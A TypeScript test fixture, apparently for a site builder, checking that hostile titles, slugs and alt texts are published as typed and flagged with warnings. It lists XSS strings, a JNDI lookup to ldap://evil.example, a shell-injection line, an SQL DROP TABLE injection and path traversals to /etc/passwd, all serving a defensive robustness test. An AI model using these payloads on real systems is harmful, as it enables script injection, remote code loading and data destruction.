import { edit, event, guide, labels, object, set, sidecar } from '../../../support/edit-site.ts'
import { publishes, type Rows } from '../../../support/expected-problems.ts'
import { textOf } from '../../../support/small-site.ts'
import { beside } from '../pool-rows.ts'

const titles = [
  ['a script', '"<script>alert(1)</script>"', '<script>alert(1)</script>'],
  ['an image that fails', "'<img src=x onerror=alert(1)>'", '<img src=x onerror=alert(1)>'],
  [
    'a closing script tag, for JSON inside a page',
    "'</script><script>alert(1)'",
    '</script><script>alert(1)',
  ],
  ['an escaped line feed', '"a\\nb"', 'a\nb'],
  ['a tab', '"a\\tb"', 'a\tb'],
  ['JavaScript line separators (U+2028, U+2029)', '"a\\u2028b\\u2029c"', 'a\u2028b\u2029c'],
  ['constructor', 'constructor', 'constructor'],
  ['__proto__', '__proto__', '__proto__'],
  ['undefined', 'undefined', 'undefined'],
  ['null', 'null', 'null'],
  ['a tilde', '~', '~'],
  ['true', 'true', 'true'],
  ['NO, as in Norway', 'NO', 'NO'],
  ['a number with leading zeros', '007', '007'],
  ['a sexagesimal number (YAML 1.1)', '12:30:45', '12:30:45'],
  ['a hexadecimal number', '0x1F', '0x1F'],
  ['a number with an exponent', '1e3', '1e3'],
  ['a version', '1.10', '1.10'],
  ['a day', '2027-05-01', '2027-05-01'],
  ['infinity', '.inf', '.inf'],
  ['YAML NaN', '.nan', '.nan'],
  ['a YAML merge key', '<<', '<<'],
  ['a JavaScript template', `'\${process.env.HOME}'`, `\${process.env.HOME}`],
  ['a Jinja template', "'{{7*7}}'", '{{7*7}}'],
  ['a Ruby interpolation', "'#{7*7}'", '#{7*7}'],
  ['a JNDI lookup', `'\${jndi:ldap://evil.example/a}'`, `\${jndi:ldap://evil.example/a}`],
  ['a placeholder of the header rules', "'{base_url}'", '{base_url}'],
  ['placeholders of URL patterns', "'{slug}{language}'", '{slug}{language}'],
  ['String.replace patterns', '"$& $1 $` $\'"', "$& $1 $` $'"],
  ['a printf format string', "'%s%n%x'", '%s%n%x'],
  ['a spreadsheet formula', '\'=HYPERLINK("https://evil.example")\'', '=HYPERLINK("https://evil.example")'],
  ['a shell command', "'$(touch pwned)`touch pwned`;touch pwned'", '$(touch pwned)`touch pwned`;touch pwned'],
  ['an SQL injection', "'''; DROP TABLE events;--'", "'; DROP TABLE events;--"],
  ['a path traversal', '../../etc/passwd', '../../etc/passwd'],
  ['a path traversal on Windows', "'..\\..\\win.ini'", '..\\..\\win.ini'],
  ['a trailing backslash', "'a\\'", 'a\\'],
  ['quotes of all kinds', "'\"a\" ''b'' `c` „d“'", '"a" \'b\' `c` „d“'],
  ['a right-to-left override', '"a\\u202Egnp.exe"', 'a\u202egnp.exe'],
  ['invisible spaces', '"a\\u200B\\u2060b"', 'a\u200b\u2060b'],
  ['forty combining accents', `"Z${'\\u0351'.repeat(40)}"`, `Z${'\u0351'.repeat(40)}`],
  ['HTML entities', "'&lt;b&gt; &#x3C;'", '&lt;b&gt; &#x3C;'],
  ['Markdown', "'**a** [b](javascript:alert(1))'", '**a** [b](javascript:alert(1))'],
  ['a front matter delimiter', '"---\\njs"', '---\njs'],
] as const

const warned = [0, 1, 2, 7, 30, 40, 41]
const quoted = '"><script>alert(1)</script>'

/** Texts that break other programs, published as they were typed. `Row` explains the notation. */
export const hostileTextRows: Rows = {
  'titles that break other programs': [
    ...titles.map(([, typed], index) => {
      // A warning for titles with a tag, an entity, Markdown, an address or half a quotation, since apps show them as typed.
      const mark = warned.includes(index) ? '«' : ''
      return beside(index, set(event, `title: ${mark}${typed}`))
    }),
    publishes('singulareventdates', [{ title: 'The fair' }, ...titles.map(([, , title]) => ({ title }))]),
    ...warned.map(() => 'warning tag-in-plain-text title'),
  ],
  'an object and a label are called constructor': [
    {
      [object]: null,
      'content/objects/constructor.md': textOf(object).replace('label: museum', 'label: constructor'),
      ...set(event, 'place: constructor'),
      [labels]: textOf(labels).replace('museum:', 'constructor:'),
    },
    publishes('objects', { label: 'Museum', slug: 'constructor' }),
  ],
  'an author and a guide are named after members of Object.prototype': [
    {
      'content/authors/ann.yaml': null,
      'content/authors/valueof.yaml': 'name: Ann\nimage: quay\n',
      [guide]: null,
      'content/guides/tostring.md': textOf(guide).replace('author: ann', 'author: valueof'),
    },
    publishes('guides', {
      byline: { author: { name: 'Ann' } },
      href: 'https://www.example.org/en/guides/tostring/',
    }),
  ],
  'the slug of an object climbs out of its folder': [set(object, 'slug: «../../admin?x#y'), 'bad-slug slug'],
  'alt texts hold quotes and tags': [
    edit(sidecar, ['A quay in the sun', `«'"><script>alert(1)</script>'`]),
    publishes('objects', { image: { alt: quoted, renditions: { small: { alt: quoted } } } }),
    'warning tag-in-plain-text alt',
  ],
}
